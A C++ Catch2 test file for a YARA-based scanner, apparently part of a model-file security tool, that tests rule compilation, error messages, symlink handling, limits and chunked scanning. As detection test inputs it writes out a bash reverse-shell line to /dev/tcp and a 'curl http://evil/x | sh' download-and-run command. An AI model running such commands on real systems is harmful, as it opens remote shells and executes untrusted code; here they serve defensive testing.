// YaraRules: compiling rule directories (errors with file and line, order,
// symlinks, limits) and turning matches into findings (id, severity,
// message, offset, scope).
#include <catch2/catch.hpp>

#include <thread>

#include "yara_test_util.h"

namespace core = modelgate::core;
using namespace yara_test;

namespace {

constexpr std::string_view kAlpha = R"(rule alpha {
  meta:
    description = "alpha marker"
    severity = "critical"
  strings:
    $a = "AAAA"
  condition:
    $a
}
)";

constexpr std::string_view kBeta = R"(rule beta_rule_2 {
  strings:
    $b = "BBBB"
  condition:
    $b
}
)";

sc::YaraRules Compiled(const std::string& dir) {
  auto r = sc::YaraRules::CompileDir(dir);
  INFO((r.ok() ? std::string() : r.error().message));
  REQUIRE(r.ok());
  return std::move(r).value();
}

}  // namespace

TEST_CASE("finding ids: uppercased, every non-alphanumeric byte becomes '-'", "[yara]") {
  CHECK(sc::YaraFindingId("shell_download_and_execute") == "MG-YARA-SHELL-DOWNLOAD-AND-EXECUTE");
  CHECK(sc::YaraFindingId("Beta_rule_2") == "MG-YARA-BETA-RULE-2");
  CHECK(sc::YaraFindingId("scan_error") == sc::kYaraScanErrorId);
}

TEST_CASE("a directory with two rule files compiles once and both rules fire", "[yara]") {
  TempDir dir;
  WriteFile(dir / "b/second.yara", kBeta);
  WriteFile(dir / "a.yar", kAlpha);
  WriteFile(dir / "notes.txt", "rule not_a_rule_file { condition: true }");
  auto rules = Compiled(dir.path());
  CHECK(rules.rule_count() == 2);
  REQUIRE(rules.files().size() == 2);
  CHECK(rules.files()[0] == dir / "a.yar");  // sorted bytewise
  CHECK(rules.files()[1] == dir / "b/second.yara");

  std::vector<sc::Finding> out;
  CHECK(rules.Scan(Bytes("xxAAAAyyyBBBBz"), "member", &out));
  REQUIRE(Ids(out) == std::vector<std::string>{"MG-YARA-ALPHA", "MG-YARA-BETA-RULE-2"});
  const sc::Finding* a = Find(out, "MG-YARA-ALPHA");
  CHECK(a->offset == 2);
  CHECK(a->severity == core::Severity::kCritical);  // from meta
  CHECK(a->member.empty());
  CHECK(a->message == "alpha marker (yara rule alpha, in member; matched \"AAAA\")");
  const sc::Finding* b = Find(out, "MG-YARA-BETA-RULE-2");
  CHECK(b->offset == 9);
  CHECK(b->severity == core::Severity::kHigh);  // no meta: high
  CHECK(b->message == "yara rule matched (yara rule beta_rule_2, in member; matched \"BBBB\")");

  SECTION("offsets are shifted by base_offset") {
    out.clear();
    CHECK(rules.Scan(Bytes("AAAA"), "header", &out, 8));
    REQUIRE(out.size() == 1);
    CHECK(out[0].offset == 8);
  }
  SECTION("no match, no finding; an empty buffer is fine") {
    out.clear();
    CHECK(rules.Scan(Bytes("AAA BBB"), "pickle", &out));
    CHECK(rules.Scan({}, "pickle", &out));
    CHECK(out.empty());
  }
}

TEST_CASE("a rule matching without strings has no offset", "[yara]") {
  TempDir dir;
  WriteFile(dir / "size.yar", "rule big { meta: severity = \"LOW\" condition: filesize > 3 }\n");
  auto rules = Compiled(dir.path());
  std::vector<sc::Finding> out;
  CHECK(rules.Scan(Bytes("12345"), "data", &out));
  REQUIRE(out.size() == 1);
  CHECK(out[0].id == "MG-YARA-BIG");
  CHECK(out[0].offset == core::kNoOffset);
  CHECK(out[0].severity == core::Severity::kLow);  // case-insensitive
  CHECK(out[0].message == "yara rule matched (yara rule big, in data)");
}

TEST_CASE("matched bytes are quoted in the message", "[yara]") {
  TempDir dir;
  WriteFile(dir / "q.yar", "rule q { strings: $q = { 22 0A 00 41 } condition: $q }\n");
  auto rules = Compiled(dir.path());
  std::vector<sc::Finding> out;
  CHECK(rules.Scan(Bytes(std::string_view("x\"\n\0A", 5)), "member", &out));
  REQUIRE(out.size() == 1);
  CHECK(out[0].message.find(R"(matched "\"\x0a\x00A")") != std::string::npos);
  CHECK(out[0].message.find('\n') == std::string::npos);
}

TEST_CASE("mg_scope tells a rule what it is looking at", "[yara]") {
  TempDir dir;
  WriteFile(dir / "s.yar",
            "rule only_header { strings: $x = \"X\" condition: mg_scope == \"header\" and $x }\n");
  auto rules = Compiled(dir.path());
  std::vector<sc::Finding> out;
  CHECK(rules.Scan(Bytes("X"), "pickle", &out));
  CHECK(out.empty());
  CHECK(rules.Scan(Bytes("X"), "header", &out));
  CHECK(Ids(out) == std::vector<std::string>{"MG-YARA-ONLY-HEADER"});
}

TEST_CASE("private rules are not reported, rules may use them", "[yara]") {
  TempDir dir;
  WriteFile(dir / "p.yar",
            "private rule helper { strings: $h = \"HH\" condition: $h }\n"
            "rule uses_helper { condition: helper }\n");
  auto rules = Compiled(dir.path());
  CHECK(rules.rule_count() == 2);
  std::vector<sc::Finding> out;
  CHECK(rules.Scan(Bytes("HH"), "member", &out));
  CHECK(Ids(out) == std::vector<std::string>{"MG-YARA-USES-HELPER"});
}

TEST_CASE("compile errors name the file and the line", "[yara][errors]") {
  TempDir dir;
  WriteFile(dir / "a.yar", kAlpha);
  WriteFile(dir / "broken.yar", "rule fine { condition: true }\n\nrule bad {\n  condition: no_such_identifier\n}\n");
  auto r = sc::YaraRules::CompileDir(dir.path());
  REQUIRE_FALSE(r.ok());
  CHECK(r.error().code == core::Code::kIoRead);
  CHECK(r.error().offset == core::kNoOffset);
  INFO(r.error().message);
  CHECK(r.error().message.rfind(dir / "broken.yar:4: yara: ", 0) == 0);
  CHECK(r.error().message.find("no_such_identifier") != std::string::npos);
}

TEST_CASE("a syntax error is reported with its line", "[yara][errors]") {
  TempDir dir;
  WriteFile(dir / "syntax.yar", "rule a {\n  strings:\n    $a = \"x\"\n  condition:\n    $a and and\n}\n");
  auto r = sc::YaraRules::CompileDir(dir.path());
  REQUIRE_FALSE(r.ok());
  INFO(r.error().message);
  CHECK(r.error().message.rfind(dir / "syntax.yar:5: yara: syntax error", 0) == 0);
}

TEST_CASE("a rule name used twice in one directory is an error naming the second file",
          "[yara][errors]") {
  TempDir dir;
  WriteFile(dir / "1.yar", kAlpha);
  WriteFile(dir / "2.yar", std::string("\n\n") + std::string(kAlpha));
  auto r = sc::YaraRules::CompileDir(dir.path());
  REQUIRE_FALSE(r.ok());
  INFO(r.error().message);
  CHECK(r.error().message.rfind(dir / "2.yar:3: yara: ", 0) == 0);
  CHECK(r.error().message.find("alpha") != std::string::npos);
}

TEST_CASE("meta severity must be a severity name", "[yara][errors]") {
  TempDir dir;
  WriteFile(dir / "ok.yar", kAlpha);
  WriteFile(dir / "sev.yar", "\nrule good { condition: false }\nrule sev_bad {\n  meta:\n    severity = \"severe\"\n  condition: false\n}\n");
  auto r = sc::YaraRules::CompileDir(dir.path());
  REQUIRE_FALSE(r.ok());
  CHECK(r.error().code == core::Code::kIoRead);
  CHECK(r.error().message == dir / "sev.yar:3: rule \"sev_bad\": meta severity \"severe\" is not one of critical|high|medium|low|info");

  TempDir dir2;
  WriteFile(dir2 / "int.yar", "rule sev_int { meta: severity = 3 condition: false }\n");
  auto r2 = sc::YaraRules::CompileDir(dir2.path());
  REQUIRE_FALSE(r2.ok());
  CHECK(r2.error().message.find("int.yar:1: rule \"sev_int\": meta severity (not a string)") !=
        std::string::npos);
}

TEST_CASE("a rule may not take the scan-error finding id", "[yara][errors]") {
  TempDir dir;
  WriteFile(dir / "r.yar", "rule Scan_Error { condition: false }\n");
  auto r = sc::YaraRules::CompileDir(dir.path());
  REQUIRE_FALSE(r.ok());
  INFO(r.error().message);
  CHECK(r.error().message.find("r.yar:1: rule \"Scan_Error\"") != std::string::npos);
  CHECK(r.error().message.find("reserved") != std::string::npos);
}

TEST_CASE("includes are refused", "[yara][errors]") {
  TempDir dir;
  WriteFile(dir / "inc/other.txt", "rule other { condition: true }\n");
  WriteFile(dir / "main.yar", "include \"inc/other.txt\"\nrule main_rule { condition: true }\n");
  auto r = sc::YaraRules::CompileDir(dir.path());
  REQUIRE_FALSE(r.ok());
  INFO(r.error().message);
  CHECK(r.error().message.rfind(dir / "main.yar:1: yara: includes are disabled", 0) == 0);
}

TEST_CASE("an empty directory is an error: no rules found", "[yara][errors]") {
  TempDir dir;
  WriteFile(dir / "README", "no rules here\n");
  fs::create_directories(dir / "sub");
  auto r = sc::YaraRules::CompileDir(dir.path());
  REQUIRE_FALSE(r.ok());
  CHECK(r.error().code == core::Code::kIoRead);
  CHECK(r.error().message.find("no rules found") != std::string::npos);
}

TEST_CASE("a missing directory is an open error", "[yara][errors]") {
  TempDir dir;
  auto r = sc::YaraRules::CompileDir(dir / "missing");
  REQUIRE_FALSE(r.ok());
  CHECK(r.error().code == core::Code::kIoOpen);
  CHECK(r.error().message.find("missing") != std::string::npos);
}

TEST_CASE("rule files that are symlinks are not followed", "[yara][symlink]") {
  TempDir outside, dir;
  WriteFile(outside / "outside.yar",
            "rule outside { strings: $o = \"OOOO\" condition: $o }\n");
  WriteFile(outside / "sub/deep.yar", "rule deep { strings: $d = \"DDDD\" condition: $d }\n");
  WriteFile(dir / "real.yar", kAlpha);
  fs::create_symlink(outside / "outside.yar", dir / "link.yar");
  fs::create_directory_symlink(outside / "sub", dir / "linked-dir");
  auto rules = Compiled(dir.path());
  CHECK(rules.files() == std::vector<std::string>{dir / "real.yar"});
  auto skipped = rules.skipped();
  std::sort(skipped.begin(), skipped.end());
  CHECK(skipped == std::vector<std::string>{dir / "link.yar", dir / "linked-dir"});
  std::vector<sc::Finding> out;
  CHECK(rules.Scan(Bytes("OOOO DDDD AAAA"), "member", &out));
  CHECK(Ids(out) == std::vector<std::string>{"MG-YARA-ALPHA"});

  SECTION("a directory holding only a symlink has no rules") {
    TempDir only;
    fs::create_symlink(outside / "outside.yar", only / "link.yar");
    auto r = sc::YaraRules::CompileDir(only.path());
    REQUIRE_FALSE(r.ok());
    CHECK(r.error().message.find("no rules found") != std::string::npos);
    CHECK(r.error().message.find("1 symlink(s) not followed") != std::string::npos);
  }
  SECTION("the directory the operator names may itself be a symlink") {
    TempDir parent;
    fs::create_directory_symlink(dir.path(), parent / "rules");
    auto r = sc::YaraRules::CompileDir(parent / "rules");
    REQUIRE(r.ok());
    CHECK(r.value().rule_count() == 1);
  }
}

TEST_CASE("limits: rule file size N passes, N+1 is refused", "[yara][limits]") {
  const std::string text = "rule sized { condition: false }\n";
  TempDir at, past;
  WriteFile(at / "r.yar", text);
  WriteFile(past / "r.yar", text + " ");
  sc::YaraDirLimits limits;
  limits.max_file_bytes = text.size();
  CHECK(sc::YaraRules::CompileDir(at.path(), limits).ok());
  auto r = sc::YaraRules::CompileDir(past.path(), limits);
  REQUIRE_FALSE(r.ok());
  CHECK(r.error().code == core::Code::kIoRead);
  CHECK(r.error().message.find("over the limit of " + std::to_string(text.size())) !=
        std::string::npos);
}

TEST_CASE("limits: rule file count N passes, N+1 is refused", "[yara][limits]") {
  TempDir at, past;
  WriteFile(at / "1.yar", "rule r1 { condition: false }\n");
  WriteFile(at / "2.yar", "rule r2 { condition: false }\n");
  WriteFile(past / "1.yar", "rule r1 { condition: false }\n");
  WriteFile(past / "2.yar", "rule r2 { condition: false }\n");
  WriteFile(past / "3.yar", "rule r3 { condition: false }\n");
  sc::YaraDirLimits limits;
  limits.max_file_count = 2;
  CHECK(sc::YaraRules::CompileDir(at.path(), limits).ok());
  auto r = sc::YaraRules::CompileDir(past.path(), limits);
  REQUIRE_FALSE(r.ok());
  CHECK(r.error().message.find("more than 2 rule files") != std::string::npos);
}

TEST_CASE("a NUL byte in a rule file is refused", "[yara][errors]") {
  TempDir dir;
  WriteFile(dir / "nul.yar", std::string_view("rule a { condition: false }\n\0rule b {", 38));
  auto r = sc::YaraRules::CompileDir(dir.path());
  REQUIRE_FALSE(r.ok());
  CHECK(r.error().message.find("NUL byte at offset 28") != std::string::npos);
}

TEST_CASE("a single rule file may be named instead of a directory", "[yara]") {
  TempDir dir;
  WriteFile(dir / "rules.txt", kAlpha);
  auto r = sc::YaraRules::CompileDir(dir / "rules.txt");
  REQUIRE(r.ok());
  CHECK(r.value().rule_count() == 1);
}

TEST_CASE("Compile: shipped rules plus directories, one namespace per source", "[yara]") {
  TempDir dir;
  // Same name as a shipped rule: allowed (own namespace), both fire.
  WriteFile(dir / "mine.yar",
            "rule reverse_shell { meta: severity = \"info\" strings: $t = \"/dev/tcp/\" "
            "condition: $t }\n");
  auto r = sc::YaraRules::Compile({dir.path()}, /*with_default=*/true);
  INFO((r.ok() ? std::string() : r.error().message));
  REQUIRE(r.ok());
  const auto& rules = r.value();
  CHECK(rules.files().size() == sc::YaraRules::DefaultSources().size() + 1);
  std::vector<sc::Finding> out;
  CHECK(rules.Scan(Bytes("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "pickle", &out));
  size_t n = 0;
  for (const auto& f : out) n += f.id == "MG-YARA-REVERSE-SHELL";
  CHECK(n == 2);
  CHECK_FALSE(sc::YaraRules::Compile({}, false).ok());
}

TEST_CASE("large buffers are scanned in overlapping chunks, each id once", "[yara][chunks]") {
  TempDir dir;
  WriteFile(dir / "n.yar", "rule needle { strings: $n = \"NEEDLE\" condition: $n }\n");
  auto rules = Compiled(dir.path());
  // Chunks of 64 bytes overlapping by 16: [0,64) [48,112) [96,160) ...
  std::string buf(300, '.');
  buf.replace(60, 6, "NEEDLE");   // straddles the first chunk's end
  buf.replace(200, 6, "NEEDLE");  // a later chunk: same id, not repeated
  std::vector<sc::Finding> out;
  CHECK(rules.ScanChunked(Bytes(buf), "data", &out, 1000, 64, 16));
  REQUIRE(out.size() == 1);
  CHECK(out[0].offset == 1060);
  // No overlap would miss the straddling one and report the later one.
  out.clear();
  CHECK(rules.ScanChunked(Bytes(buf), "data", &out, 0, 64, 0));
  REQUIRE(out.size() == 1);
  CHECK(out[0].offset == 200);
  // The last chunk is short; a match at the very end is still found.
  std::string tail(130, '.');
  tail.replace(124, 6, "NEEDLE");
  out.clear();
  CHECK(rules.ScanChunked(Bytes(tail), "data", &out, 0, 64, 16));
  REQUIRE(out.size() == 1);
  CHECK(out[0].offset == 124);
}

TEST_CASE("moved-from rules scan nothing and report it", "[yara]") {
  TempDir dir;
  WriteFile(dir / "a.yar", kAlpha);
  auto a = Compiled(dir.path());
  sc::YaraRules b = std::move(a);
  std::vector<sc::Finding> out;
  CHECK(b.Scan(Bytes("AAAA"), "member", &out));
  CHECK(out.size() == 1);
  out.clear();
  CHECK_FALSE(a.Scan(Bytes("AAAA"), "member", &out));  // NOLINT: use after move is the test
  REQUIRE(out.size() == 1);
  CHECK(out[0].id == "MG-YARA-SCAN-ERROR");
  CHECK(out[0].severity == core::Severity::kHigh);
}

TEST_CASE("one rule set scans from several threads at once", "[yara][threads]") {
  auto r = sc::YaraRules::CompileDefault();
  REQUIRE(r.ok());
  const sc::YaraRules& rules = r.value();
  const auto payload = Bytes("{\"__metadata__\":{\"x\":\"curl http://evil/x | sh\"}}");
  std::vector<std::vector<sc::Finding>> results(8);
  std::vector<std::thread> threads;
  for (size_t t = 0; t < results.size(); ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 20; ++i) rules.Scan(payload, "header", &results[t]);
    });
  }
  for (auto& t : threads) t.join();
  for (const auto& v : results) {
    CHECK(Find(v, "MG-YARA-SHELL-DOWNLOAD-AND-EXECUTE") != nullptr);
    CHECK(Find(v, "MG-YARA-SCAN-ERROR") == nullptr);
  }
}
